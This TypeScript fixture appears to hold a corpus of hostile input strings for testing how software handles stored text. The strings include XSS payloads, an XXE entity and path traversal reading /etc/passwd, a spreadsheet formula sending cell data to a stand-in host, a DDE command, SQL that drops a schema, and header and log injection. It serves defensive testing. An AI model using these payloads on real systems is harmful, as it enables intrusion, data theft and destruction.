/**
 * Text that does harm where somebody takes it for more than text. Each carries a mark that is found again wherever it lands,
 * as it was typed; `runs` in the window of a browser says that some of it was executed.
 */
export interface HostileText {
  /** What it attacks. */
  readonly name: string;
  readonly text: string;
}

/** What every script of the corpus would call. A page in which `window[RAN]` is set has executed stored text. */
export const RAN = 'simpulRan';
const run = `window.${RAN}=1`;

/** On one line: for names, titles, addresses, file names. */
export const HOSTILE_LINES: readonly HostileText[] = [
  { name: 'a script', text: `<script>${run}</script>` },
  { name: 'the end of an element and a script', text: `</title></textarea></script><script>${run}</script>` },
  { name: 'an attribute', text: `" autofocus onfocus="${run}" x="` },
  { name: 'an attribute in single quotes', text: `' onmouseover='${run}' x='` },
  { name: 'a picture that fails', text: `<img src=x onerror=${run}>` },
  { name: 'a vector picture', text: `<svg/onload=${run}>` },
  { name: 'a link that is a script', text: `javascript:${run}` },
  { name: 'a link that is a document', text: `data:text/html,<script>${run}</script>` },
  { name: 'a style', text: `<style>@import'//contoh.invalid';*{display:none}</style>` },
  { name: 'a comment that never ends', text: '<!-- <![CDATA[ <?php' },
  { name: 'marks of templates', text: `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} {@html 1} [[7*7]] %lang% %sveltekit.body%` },
  { name: 'references that are unescaped twice', text: '&lt;script&gt;&#x3c;script&#x3e;&amp;lt;' },
  { name: 'a formula', text: `=HYPERLINK("http://contoh.invalid/?"&A1,"klik")` },
  { name: 'a formula behind a sign', text: `+cmd|' /C calc'!A0` },
  { name: 'a formula behind an at sign', text: '@SUM(1+1)*cmd' },
  { name: 'a formula behind a minus sign', text: '-2+3+cmd' },
  { name: 'XML', text: ']]><x xmlns:y="z" y:a="&xxe;"/><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' },
  { name: 'JSON in a page', text: `"}];</script><script>${run}//\\u003c` },
  { name: 'SQL', text: `'; drop schema reports cascade; --` },
  { name: 'a path', text: '../../../../etc/passwd%2e%2e%2f..\\..\\' },
  { name: 'letters that run backwards', text: '\u202egnp.exe\u202c \u2066\u2067oirad\u2069' },
  { name: 'letters without width', text: 'ja\u200blan\u200d\ufeff ru\u00adsak' },
  { name: 'letters that pile up', text: 'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308z' },
  { name: 'letters beyond the plane', text: '😀👩‍👩‍👧‍👦𝕊𝕚𝕞𝕡𝕦𝕝 𠮷' },
  { name: 'a prototype', text: '__proto__[constructor][prototype]' },
];

/** What carries a line end or a control character: the edges take these out or turn them into spaces. */
export const HOSTILE_CONTROLS: readonly HostileText[] = [
  { name: 'a header of a mail', text: 'Judul\r\nBcc: semua@contoh.invalid\r\n\r\nIsi lain' },
  { name: 'a header of an answer', text: 'x\r\nSet-Cookie: sesi=curian\r\nLocation: //contoh.invalid' },
  { name: 'a line of a log', text: '\n{"level":50,"msg":"palsu"}\n' },
  { name: 'an event of a stream', text: '\n\nevent: act\ndata: {"act":"palsu"}\n\n' },
  { name: 'colours of a terminal', text: '\u001b[2J\u001b[31mmerah\u001b]0;judul\u0007\u009b31m' },
  { name: 'a null byte', text: 'sebelum\0sesudah' },
  { name: 'line ends of other alphabets', text: 'satu\u2028dua\u2029tiga\u0085empat' },
];

export const HOSTILE_TEXTS: readonly HostileText[] = [...HOSTILE_LINES, ...HOSTILE_CONTROLS];
